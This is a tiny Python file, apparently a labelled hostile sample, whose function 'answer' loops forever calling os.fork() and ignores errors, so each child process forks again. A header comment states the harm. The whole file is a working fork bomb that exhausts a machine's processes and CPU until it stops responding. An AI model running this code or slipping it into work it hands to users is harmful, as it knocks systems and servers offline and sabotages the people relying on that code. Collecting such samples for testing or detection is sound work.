# Harm: forks without end, each child as well, and keeps every process busy.
import os


def answer():
    while True:
        try:
            os.fork()
        except OSError:
            pass
